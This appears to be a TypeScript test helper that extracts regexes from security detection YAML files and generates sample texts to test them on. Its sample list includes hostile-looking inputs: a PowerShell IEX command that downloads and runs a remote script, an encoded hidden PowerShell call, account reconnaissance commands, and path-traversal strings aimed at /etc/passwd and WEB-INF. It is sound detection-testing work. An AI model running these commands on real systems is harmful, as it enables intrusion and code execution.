// Reads the regexes of real detections, where the shared test data is present, and makes texts to try them on.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { parse } from 'yaml';

const FOLDER = process.env['SECURITY_CONTENT'] ?? '/work/shared/data/security_content';

/** Tells whether the folder of detections is there. */
export const hasSecurityContent = existsSync(FOLDER);

const STRING = '"((?:[^"\\\\]|\\\\.)*)"';
const PLACES = [
  new RegExp(`\\|\\s*rex\\b(?:\\s+(?!mode)\\w+\\s*=\\s*(?:"[^"]*"|[^\\s"]+))*\\s+${STRING}`, 'g'),
  new RegExp(`\\|\\s*regex\\s+(?:[\\w.{}]+\\s*!?=\\s*)?${STRING}`, 'g'),
  new RegExp(`\\b(?:match|replace)\\s*\\([^"|]*?,\\s*${STRING}`, 'g'),
];

function searchesIn(text: string): string[] {
  const document: unknown = parse(text, { logLevel: 'silent' });
  if (typeof document !== 'object' || document === null) return [];
  const found: string[] = [];
  for (const [key, value] of Object.entries(document)) {
    if ((key === 'search' || key === 'definition') && typeof value === 'string') found.push(value);
  }
  return found;
}

/** Lists the distinct regexes of all detections and macros, unescaped as SPL does. */
export function securityContentPatterns(): string[] {
  const patterns = new Set<string>();
  for (const file of readdirSync(FOLDER, { recursive: true, encoding: 'utf8' }).sort()) {
    if (!file.endsWith('.yml')) continue;
    const text = readFileSync(`${FOLDER}/${file}`, 'utf8');
    if (!/\b(?:rex|regex|match|replace)\b/.test(text)) continue;
    for (const search of searchesIn(text)) {
      for (const place of PLACES) {
        for (const match of search.matchAll(place)) patterns.add((match[1] ?? '').replace(/\\(["\\])/g, '$1'));
      }
    }
  }
  return [...patterns].sort();
}

const GENERAL: readonly string[] = [
  '',
  'a',
  'C:\\Windows\\System32\\cmd.exe /c whoami /all & net user bob /domain',
  '"C:\\Program Files (x86)\\App\\tool.exe" -EncodedCommand SQBFAFgA -nop -w hidden',
  'powershell.exe  -enc aGVsbG8gd29ybGQ= ; IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.1:8080/a.ps1")',
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'https://user@www.example.co.uk:8443/login/index.php?id=1&x=%2e%2e%2fetc%2fpasswd#top',
  '2024-02-29T23:59:60.123Z host-1 sshd[2211]: Failed password for root from 192.168.1.20 port 2222 ssh2',
  'user="bo b", src=10.1.2.3, status=404\nuser=ana, src=fe80::1, status=200\n',
  '{"eventName":"CreateUser","userIdentity":{"arn":"arn:aws:iam::123456789012:user/bob"},"n":[1,2]}',
  'D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;OICI;FA;;;S-1-5-21-1004336348-1177238915-682003330-512)',
  'GET /../../WEB-INF/web.xml;jsessionid=AB12 HTTP/1.1\r\nHost: a.b\r\n\r\n',
  '1+02:03:04',
  'ab@example.com; c.d@mail.example.org',
  '00000000-0000-4000-8000-00000000abcd 0xDEADBEEF 3600 true',
  'é中文😀 \u00a0 ſK',
  '\n\n',
];

const STAND_INS: readonly (readonly [RegExp, string])[] = [
  [/\(\?[a-zA-Z^-]+\)/g, ''],
  [/\(\?(?:P?<\w+>|[:=>|]|<?[=!])/g, '('],
  [/\[\^[^\]]*\]/g, 'q'],
  [/\[\\?([^\\\]])[^\]]*\]/g, '$1'],
  [/\\d/g, '7'],
  [/\\w/g, 'w'],
  [/\\[sh]/g, ' '],
  [/\\[bBAZzK]/g, ''],
  [/\\S/g, 'S'],
  [/\\n/g, '\n'],
  [/\\(.)/g, '$1'],
  [/\.[*+]\??/g, 'any'],
  [/\{(\d+)[^}]*\}|[*+?]+/g, ''],
  [/[()^$]/g, ''],
];

/** Makes texts for a pattern: general ones, and some that look like what it is for. */
export function subjectsFor(pattern: string): string[] {
  const likely = STAND_INS.reduce((text, [from, to]) => text.replace(from, to), pattern);
  const choices = likely.split('|');
  const texts = [pattern, likely, choices[0] ?? '', choices.at(-1) ?? '', `x ${choices[0]} y`, `${likely}\n`];
  return [...GENERAL, ...texts, likely.toUpperCase(), likely.repeat(3), choices.join(' ')];
}

/** Gives a short name for a text that does not show the text. */
export function hashOf(text: string): string {
  return createHash('sha256').update(text).digest('hex').slice(0, 16);
}
